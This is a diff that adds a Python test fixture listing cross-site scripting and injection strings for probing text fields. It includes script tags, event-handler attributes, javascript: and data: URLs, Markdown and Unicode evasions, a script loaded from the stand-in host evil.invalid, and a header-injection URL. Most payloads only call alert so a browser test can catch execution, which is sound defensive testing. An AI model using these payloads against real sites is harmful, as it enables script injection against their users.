@@ -1,0 +1,121 @@
+"""Hostile strings for every text field: markup, attribute and URL injections, Unicode tricks.
+
+Every payload that could run calls ``alert``, so a browser test catches any that does by the
+dialog it would open.
+"""
+
+from __future__ import annotations
+
+BASE_VECTORS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
+    "<script>alert(String.fromCharCode(88,83,83))</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(1)">',
+    "<IMG SRC=x OnErRoR=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    '<img """><script>alert(1)</script>">',
+    "<img src=javascript:alert(1)>",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text x='20' y='20'>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><set attributeName=onmouseover to=alert(1)>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe>"
+    "</foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<math href="javascript:alert(1)">x</math>',
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="&#x6A;avascript:alert(1)">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href=" javascript:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
+    "<iframe src=javascript:alert(1)></iframe>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)></select>",
+    "<textarea autofocus onfocus=alert(1)></textarea>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<body onload=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<x onclick=alert(1)>click me",
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<p style="x:expression(alert(1))">x</p>',
+    '<style>@import "javascript:alert(1)";</style>',
+    "<style>*{background:url(javascript:alert(1))}</style>",
+    "<link rel=stylesheet href=javascript:alert(1)>",
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "<base href=javascript:alert(1)//>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "<template><img src=x onerror=alert(1)></template>",
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    '<?xml-stylesheet href="javascript:alert(1)"?>',
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<script>script>alert(1)<</script>/script>",
+    "<script/src=data:,alert(1)></script>",
+    "<script\x00>alert(1)</script>",
+    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
+    # breaking out of attributes, elements and scripts the page already has
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)" x="',
+    "' autofocus onfocus='alert(1)",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    # URLs, for the fields that hold one
+    "javascript:alert(1)",
+    "JAVASCRIPT:alert(1)",
+    "javascript://%0aalert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "//evil.invalid/%0d%0aSet-Cookie:x=1",
+    # Markdown-specific
+    "[x](javascript:alert(1))",
+    "[x](javascript&#58;alert(1))",
+    "[x](  javascript:alert(1)  )",
+    '![x](x" onerror="alert(1))',
+    "![x](javascript:alert(1))",
+    "[x]: javascript:alert(1)\n\n[click][x]",
+    "<javascript:alert(1)>",
+    '[x](\\"javascript:alert(1)\\")',
+    "`<script>alert(1)</script>`",
+    "```\n<script>alert(1)</script>\n```",
+    "*<img src=x onerror=alert(1)>*",
+    # Unicode tricks
+    "＜script＞alert(1)＜/script＞",
+    "\u202e<script>alert(1)</script>",
+    "<scr\u200bipt>alert(1)</scr\u200bipt>",
+    "\ufeff<img src=x onerror=alert(1)>",
+    "<img src=x onerror=\u0061lert(1)>",
+    "\u2028<script>alert(1)</script>\u2029",
+    # template and escaping tricks
+    "{{ 7|add:7 }}{% debug %}",
+    "${alert(1)}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+]
+
+
+def _variants(vector: str) -> list[str]:
+    return [vector, f"News {vector} today", vector.upper().replace("ALERT(1)", "alert(1)")]
+
+
+VECTORS: list[str] = list(dict.fromkeys(v for base in BASE_VECTORS for v in _variants(base)))
